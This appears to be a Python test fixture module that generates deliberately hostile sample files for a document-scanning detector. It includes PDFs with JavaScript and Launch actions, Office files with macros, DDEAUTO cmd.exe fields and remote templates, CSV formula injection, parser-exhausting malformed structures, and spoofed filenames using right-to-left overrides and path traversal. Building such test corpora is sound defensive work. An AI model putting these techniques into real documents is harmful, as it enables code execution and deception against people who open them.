"""Office files, PDFs and texts that do something when they are opened."""

import struct

from tests.factories.files import make_docx, make_pdf, make_zip
from tests.indicators.evidence.hostile.archives import MEGABYTE, PROGRAM
from tests.indicators.evidence.hostile.packed_files import packed_object, show_with_object
from tests.indicators.evidence.hostile.test_kinds import (
    DDE,
    OBJECT,
    sheet_of,
    word,
    word_with_template,
)
from tests.indicators.evidence.odd_files import (
    crowded_pdf,
    make_compound,
    make_sheet,
    pdf_with_action,
    pdf_with_file,
)
from tests.indicators.evidence.test_fetching import RELS, related, word_with
from tests.indicators.evidence.test_hidden_in_pdf import SCRIPT

ODF = b"application/vnd.oasis.opendocument.text"
PAGE = "<script>fetch('//example.org')</script>"


def make():
    """``{name: bytes}``."""
    return pdfs() | old_office() | new_office() | texts() | odd_names()


def pdfs():
    """PDFs with a program, an attachment, or more in them than they say."""
    action = {"/S": "/JavaScript", "/JS": "app.alert(1)"}
    launch = {"/S": "/Launch", "/F": "calc.exe"}
    whole = make_pdf("ก")
    return {
        "javascript.pdf": make_pdf("ก", javascript=True),
        "launch.pdf": pdf_with_action("link", launch),
        "javascript-page.pdf": pdf_with_action("page", action),
        "javascript-apart.pdf": pdf_with_action("apart", action),
        "javascript-names.pdf": pdf_with_action("names", action),
        "submit.pdf": pdf_with_action("form", {"/S": "/SubmitForm", "/F": "http://example.org/"}),
        "address.pdf": pdf_with_action("link", {"/S": "/URI", "/URI": SCRIPT}),
        "embedded.pdf": pdf_with_file("evil.exe", PROGRAM),
        "embedded-page.pdf": pdf_with_file("a.html", PAGE.encode()),
        "other-letters.pdf": crowded_pdf(b"<</S/#4aavaScript/J#53(1)>>", 1),
        "crowd.pdf": crowded_pdf(b"<</A[1 2 3]>>", 320_000),
        "one-array.pdf": crowded_pdf(b"[" + b"[]" * 6_000_000 + b"]", 1),
        "deep-array.pdf": crowded_pdf(b"[" * 20_000 + b"]" * 20_000, 1),
        "packs-lie.pdf": crowded_pdf(
            b"<</Type/ObjStm/N 99999999/First 9/Length 2>>stream\n{}\nendstream", 1
        ),
        "loop-of-pages.pdf": crowded_pdf(b"<</Type/Pages/Count 9/Kids[2 0 R]/Parent 2 0 R>>", 1),
        "locked.pdf": make_pdf("ก", password="1234"),
        "cut.pdf": whole[: len(whole) // 2],
        "table-lies.pdf": whole.replace(b"startxref", b"startxref\n99999999999999\n%"),
    }


def old_office():
    """Compound files: macros, objects, and file systems that lie about themselves."""
    circle = bytearray(word())
    struct.pack_into("<I", circle, 512 + 4, 1)  # the directory follows itself
    endless = bytearray(word())
    struct.pack_into("<II", endless, 68, 0, 0xFFFFFFFF)  # so does the table of tables
    tree = bytearray(word(a=b"", b=b""))
    struct.pack_into("<III", tree, 1024 + 128 + 68, 1, 1, 1)  # a row is its own neighbour
    sizes = bytearray(word())
    struct.pack_into("<I", sizes, 1024 + 128 + 120, 0xFFFFFFFF)
    return {
        "macros.doc": word(Macros=b"", _VBA_PROJECT=b"x"),
        "macros.xls": make_compound({"Workbook": sheet_of(0), "_VBA_PROJECT_CUR": b"x"}),
        "macros-stomped.doc": word(x=b"\1\xb0\0Attribut\0e VB_Nam"),
        "macro-sheet.xls": make_compound({"Workbook": sheet_of(1)}),
        "dde.xls": make_compound({"Workbook": DDE + b"\0\0cm"}),
        "dde.doc": word(
            **{"WordDocument": struct.pack("<10xH", 0) + b"\x13 DDEAUTO c:\\\\cmd.exe"}
        ),
        "template.doc": word_with_template("https://example.org/a.dotm"),
        "program.doc": word(**{OBJECT: packed_object("แบบ.exe")}),
        "program-renamed.doc": word(**{OBJECT: packed_object("รูป.png", PROGRAM)}),
        "program.ppt": make_compound({"PowerPoint Document": show_with_object("a.scr")}),
        "package.doc": word(Package=make_docx(entries={"word/vbaProject.bin": b"x"})),
        "locked.xlsx": make_compound({"EncryptionInfo": b"x", "EncryptedPackage": b"y"}),
        "installer.doc": make_compound({"\u4840\u3f7f\u4164\u422f\u4836": b"x"}),
        "circle.doc": bytes(circle),
        "endless.doc": bytes(endless),
        "own-neighbour.doc": bytes(tree),
        "size-lies.doc": bytes(sizes),
        "cut.doc": word()[:700],
        "nothing.doc": word()[:512],
        "bomb.ppt": make_compound(
            {"PowerPoint Document": struct.pack("<HHII", 0x10, 0x1011, 20, 0xFFFFFFF0) + b"x" * 16}
        ),
    }


def new_office():
    """DOCX, XLSX and ODT that fetch, start or run something."""
    field = "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>"
    return {
        "macros.docx": make_docx(entries={"word/vbaProject.bin": b"x"}),
        "macros-by-type.xlsx": make_sheet(
            types=b"<Types a='application/vnd.ms-excel.sheet.macroEnabled.main+xml'/>"
        ),
        "macro-sheet.xlsx": make_sheet(entries={"xl/macrosheets/sheet1.xml": b"<x/>"}),
        "activex.docx": make_docx(entries={"word/activeX/activeX1.bin": b"x"}),
        "template.docx": word_with(RELS, related("attachedTemplate", "https://example.org/a.dotm")),
        "template-share.docx": word_with(RELS, related("attachedTemplate", r"\\203.0.113.7@80\a")),
        "object.docx": word_with(RELS, related("oleObject", "mhtml:http://example.org/a!x")),
        "dde.docx": word_with("word/document.xml", field),
        "dde.xlsx": make_sheet(entries={"xl/externalLinks/e.xml": b"<ddeLink ddeService='cmd'/>"}),
        "program.docx": make_docx(entries={"word/embeddings/a.bin": PROGRAM}),
        "ole.docx": make_docx(
            entries={"word/embeddings/a.bin": make_compound({OBJECT: packed_object("a.exe")})}
        ),
        "macros.odt": make_zip({"mimetype": ODF, "Basic/Standard/m.xml": b"x"}),
        "event.odt": make_zip(
            {"mimetype": ODF, "content.xml": b"<a xlink:href='vnd.sun.star.script:x'/>"}
        ),
    }


def texts():
    """Pages and programs with the names of texts."""
    return {
        "page.txt": f"<!DOCTYPE html>{PAGE}".encode(),
        "page-late.txt": (" \n" * 300_000 + f"<html>{PAGE}").encode(),
        "page-utf16.csv": f"<html>{PAGE}".encode("utf-16"),
        "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "picture.png": b"<svg onload='alert(1)'/>",
        "table.xls": b"<table><tr><td>=cmd|'/c calc'!A0",
        "archive.doc": b"MIME-Version: 1.0\nContent-Type: multipart/related;\n\n",
        "sheet.xls": b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>',
        "rich.doc": b"{\\rtf1{\\object\\objdata 0105}}",
        "rich-odd.rtf": b"{\\rt\xe0{\\*\\template http://example.org/a}}",
        "zeros.csv": b"a,b\n" + b"\0" * 100,
        "zeros-late.csv": b"a,b\n" * 300_000 + b"\0\x01",
        "controls.txt": b"a\x1b]0;x\x07",
        "formula.csv": "ชื่อ,=cmd|'/c calc'!A0,+1,@SUM(1)\n".encode(),
        "not-a-page.txt": f"a {PAGE}".encode(),
        "endless-line.txt": b"a" * 20 * MEGABYTE,
    }


def odd_names():
    """Honest bytes under names that lie."""
    pdf = make_pdf("ก")
    return {
        "แผน\u202efdp.exe": pdf,
        "แผน\u202e\u2066gpj.pdf": pdf,
        "..\\..\\แผน.pdf": pdf,
        'แผน"; filename="x.html".pdf': pdf,
        "แผน\u200b\ufeff.pdf": pdf,
        "แผน.pdf.html": pdf,
        "CON.pdf": pdf,
        "แผน.jpg": pdf,
    }
